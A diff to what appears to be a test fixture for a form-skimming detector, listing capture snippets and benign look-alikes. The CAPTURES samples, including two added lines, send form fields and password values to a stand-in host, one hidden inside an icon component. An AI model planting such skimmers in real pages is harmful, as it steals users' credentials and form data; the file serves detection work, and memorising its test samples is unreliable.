@@ -12,6 +12,8 @@ const CAPTURES: readonly string[] = [
   `document.addEventListener('submit', (e) => { fetch('https://collect.invalid', { method: 'POST', body: new FormData(e.target) }); });`,
   `const t = document.querySelector('input[type=password]'); setInterval(() => { new Image().src = 'https://collect.invalid/?' + t.value; }, 1000);`,
   `document.querySelectorAll('input').forEach((field) => fetch('https://collect.invalid/' + btoa(field.value)));`,
+  `exports.Icon = ({ name }) => { useEffect(() => attach(document), []); return name; }; function attach(page) { page.addEventListener('submit', (e) => { navigator.sendBeacon('https://collect.invalid', JSON.stringify(Object.fromEntries(new FormData(e.target)))); }); }`,
+  `document.addEventListener('change', (e) => { const all = [...e.currentTarget.querySelectorAll('input')].map((i) => [i.name, i.value]); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(all) }); });`,
   `$(document).on('submit', 'form', function () { $.post('https://collect.invalid', $(this).serialize()); });`,
 ];
 
@@ -32,6 +34,7 @@ const HONEST: readonly string[] = [
   `const id = document.cookie.split('; ').find((c) => c.startsWith('id=')); navigator.sendBeacon('https://stats.example/e', id);`,
   `const id = /id=([^;]*)/.exec(document.cookie); fetch('https://stats.example/' + localStorage.getItem('visitor'));`,
   `exports.post = (url, form) => fetch(url, { method: 'POST', body: new FormData(form) });`,
+  `exports.watch = (signal, url) => { signal.addEventListener('abort', () => fetch('https://stats.example/aborted')); return fetch(url, { signal }); };`,
   `exports.store = { get: (k) => localStorage.getItem(k), set: (k, v) => localStorage.setItem(k, v) };`,
 ];
 
